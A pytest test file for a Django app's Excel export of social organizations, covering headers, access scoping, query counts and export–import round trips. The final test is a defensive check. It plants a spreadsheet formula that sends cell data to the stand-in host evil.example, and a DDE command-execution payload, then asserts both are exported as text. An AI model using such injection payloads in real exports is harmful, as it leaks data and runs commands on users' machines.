"""Excel export of organizations, and export → import round trips."""

from __future__ import annotations

import datetime
import io

import pytest
from django.db.models import Value
from openpyxl import load_workbook

from governance.models import ImportStatus
from governance.standards import make_uscc
from orgs.exporting import export_filename, organizations_to_xlsx
from orgs.importing import IMPORT_COLUMNS
from orgs.models import Organization, OrgKind
from orgs.selectors import organization_list
from orgs.tests.test_importing import org_row, run_import

HEADERS = [column.label for column in IMPORT_COLUMNS] + ["当前等级", "信用状态"]


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def _sheet(data: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(data), read_only=True).worksheets[0].iter_rows(values_only=True))


def _seed(tree, user, in_tenant, count=6) -> None:
    rows = [org_row(i, region_code=["430405001001", "430405002001"][i % 2]) for i in range(count)]
    job = run_import(tree["tenant"], user, rows, in_tenant=in_tenant)
    assert job.status == ImportStatus.SUCCEEDED, job.errors


def test_export_has_the_import_headers_and_the_rows_of_the_queryset(tree_a, users, in_tenant):
    _seed(tree_a, users["admin_a"], in_tenant)
    with in_tenant(tree_a["tenant"]):
        data = organizations_to_xlsx(Organization.objects.filter(kind=OrgKind.ASSOCIATION).order_by("name"))
    rows = _sheet(data)
    assert list(rows[0]) == HEADERS
    assert [row[0] for row in rows[1:]] == ["测试组织0", "测试组织4"]
    values = dict(zip(HEADERS, rows[1], strict=True))
    assert values["类型"] == "社会团体"
    assert values["所属辖区代码"] == "430405001001"
    assert values["成立日期"] == datetime.datetime(2015, 3, 1)
    assert values["状态"] == "正常"
    assert values["服务领域"] == "为老服务、社区事务"
    assert values["资金来源"] == "政府购买、捐赠"
    assert values["专职人员"] == 3
    assert values["当前等级"] is None and values["信用状态"] is None


def test_export_fills_grade_and_credit_from_annotations(tree_a, users, in_tenant):
    _seed(tree_a, users["admin_a"], in_tenant, count=2)
    with in_tenant(tree_a["tenant"]):
        queryset = Organization.objects.annotate(current_grade=Value("4A"), credit_list=Value("abnormal"))
        rows = _sheet(organizations_to_xlsx(queryset.order_by("name")))
    assert rows[1][-2:] == ("4A", "活动异常名录")


def test_export_of_the_list_selector_is_scoped_and_query_count_is_flat(tree_a, users, in_tenant,
                                                                      django_assert_max_num_queries):
    _seed(tree_a, users["admin_a"], in_tenant, count=40)
    street = users["street_a"]
    with in_tenant(tree_a["tenant"]):
        with django_assert_max_num_queries(8):
            rows = _sheet(organizations_to_xlsx(organization_list(user=street)))
    # street_a sees the organizations of 广东路街道 only (even indices are in its community).
    assert sorted(row[0] for row in rows[1:]) == sorted(f"测试组织{i}" for i in range(0, 40, 2))
    assert all(row[9] == "430405001001" for row in rows[1:])


def test_export_then_import_round_trip(tree_a, tree_b, users, in_tenant):
    _seed(tree_a, users["admin_a"], in_tenant, count=4)
    with in_tenant(tree_a["tenant"]):
        exported = organizations_to_xlsx(Organization.objects.order_by("name"))
        before = {org.name: org for org in Organization.objects.prefetch_related("domains")}

    # Re-import into the same tenant with new codes (codes are unique) and a new name suffix.
    workbook = load_workbook(io.BytesIO(exported))
    sheet = workbook.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    col = {label: index for index, label in enumerate(header)}
    for number, row in enumerate(sheet.iter_rows(min_row=2), start=1):
        row[col["名称"]].value = f"{row[col['名称']].value}（复制）"
        kind_type = {"社会团体": "1", "社会服务机构": "2", "基金会": "3"}.get(row[col["类型"]].value)
        row[col["统一社会信用代码"]].value = (make_uscc("5", kind_type, "430405", f"R{number:07d}")
                                          if kind_type else None)
        if row[col["备案编号"]].value:
            row[col["备案编号"]].value = f"复制{number}"
    buffer = io.BytesIO()
    workbook.save(buffer)
    job = run_import(tree_a["tenant"], users["admin_a"], data=buffer.getvalue(), in_tenant=in_tenant)
    assert job.status == ImportStatus.SUCCEEDED, job.errors
    assert job.imported_rows == 4
    with in_tenant(tree_a["tenant"]):
        for name, original in before.items():
            copy = Organization.objects.get(name=f"{name}（复制）")
            for field in ("kind", "region_id", "legal_representative", "contact_phone", "email", "established_date",
                          "registered_date", "status", "staff_fulltime", "volunteers", "funding_sources"):
                assert getattr(copy, field) == getattr(original, field), field
            assert set(copy.domains.values_list("domain", flat=True)) == {d.domain for d in original.domains.all()}

    # The unchanged export cannot be imported twice: every code is already registered.
    job = run_import(tree_a["tenant"], users["admin_a"], data=exported, in_tenant=in_tenant)
    assert job.status == ImportStatus.FAILED
    assert job.error_count == 4
    assert {error["column"] for error in job.errors} == {"统一社会信用代码", "备案编号"}


def test_empty_export_is_a_header_only_workbook(tree_a, in_tenant):
    with in_tenant(tree_a["tenant"]):
        rows = _sheet(organizations_to_xlsx(Organization.objects.none()))
    assert [list(row) for row in rows] == [HEADERS]


def test_export_filename_has_the_prefix_and_the_local_date():
    name = export_filename("社会组织")
    assert name.startswith("社会组织_") and name.endswith(".xlsx")
    datetime.datetime.strptime(name[len("社会组织_"):-len(".xlsx")], "%Y%m%d")


def test_a_formula_typed_into_an_organization_is_exported_as_text(tree_a, users, in_tenant):
    """Issue 7 item 3: ``=HYPERLINK(...)`` typed by an organization user was written as a live formula."""
    formula = '=HYPERLINK("http://evil.example/?q="&B2,"查看详情")'
    job = run_import(tree_a["tenant"], users["admin_a"], [org_row(0, **{"地址": "衡阳市"})], in_tenant=in_tenant)
    assert job.status == ImportStatus.SUCCEEDED, job.errors
    with in_tenant(tree_a["tenant"]):
        Organization.objects.update(address=formula, contact_person="@SUM(1+1)*cmd|' /C calc'!A0")  # the portal's fields
        data = organizations_to_xlsx(Organization.objects.all())
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    columns = {cell.value: cell.column for cell in sheet[1]}
    address, person = sheet.cell(2, columns["地址"]), sheet.cell(2, columns["联系人"])
    assert (address.value, address.data_type) == (formula, "s")
    assert (person.value, person.data_type) == ("@SUM(1+1)*cmd|' /C calc'!A0", "s")
